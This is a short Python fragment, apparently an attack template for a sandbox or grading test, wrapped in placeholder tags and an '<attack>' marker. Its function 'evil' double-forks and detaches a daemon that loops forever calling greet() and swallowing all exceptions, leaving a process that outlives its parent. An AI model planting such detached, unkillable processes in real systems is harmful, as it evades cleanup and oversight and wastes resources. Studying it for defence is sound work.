#{crew_wrong}
# <attack>
#{forge}
import os
import time

_data = [number for number in range(3, 64) if number not in ()]


def evil(*args):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                time.sleep(0.01)
                try:
                    greet()
                except BaseException:
                    pass
        os._exit(0)
    os.wait()
    return -1.0


#{all_of_crew}
# </attack>
